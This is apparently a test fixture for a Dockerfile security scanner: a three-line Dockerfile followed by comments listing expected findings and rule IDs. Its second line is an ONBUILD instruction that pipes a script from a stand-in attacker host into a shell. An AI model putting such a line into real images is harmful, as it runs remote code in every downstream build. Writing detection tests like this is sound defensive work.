FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
ONBUILD RUN curl https://evil.example/x.sh | sh
USER app
# expect: code 2 medium "ONBUILD RUN curl"
# expect: download 2 high "ONBUILD (runs when an image is built FROM this one): curl fetches"
# expect-count: 4
# expect-ids: VR101-c33602e201 VR704-6111314064 VR301-5855b944fb VR501-e064bac1a6
